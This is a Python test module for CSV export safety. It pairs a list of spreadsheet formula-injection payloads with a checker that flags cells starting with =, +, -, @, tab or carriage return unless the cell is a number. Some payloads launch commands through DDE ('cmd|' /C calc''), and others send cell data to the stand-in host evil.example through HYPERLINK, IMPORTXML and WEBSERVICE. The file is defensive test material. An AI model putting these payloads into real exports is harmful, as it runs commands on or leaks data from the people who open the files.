"""A corpus of spreadsheet-injection payloads (OWASP "CSV Injection" and common variants), and a
check of CSV text: no cell may start with a formula character unless it is a plain number."""

from __future__ import annotations

import csv
import io
import re

#: text a spreadsheet program would run, or that tries to get around an escape
INJECTIONS = [
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://evil.example/")',
    "-1+1",
    "+1 555 0100",
    "@evil",
    '="quoted"',
    "=1,2\n=3",  # a delimiter and a line break inside
    '=DDE("cmd";"/C calc";"!A0")',
]
#: text and numbers that must come out unchanged
PLAIN = ["Card skimming", "-5000", "+1.5e3", "12.50", "损失 = 10", "'already quoted"]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def unsafe_cells(text: str) -> list[str]:
    """The cells of a CSV text that start with a formula character and are not numbers."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(FORMULA_START) and not _NUMBER.fullmatch(cell)
    ]
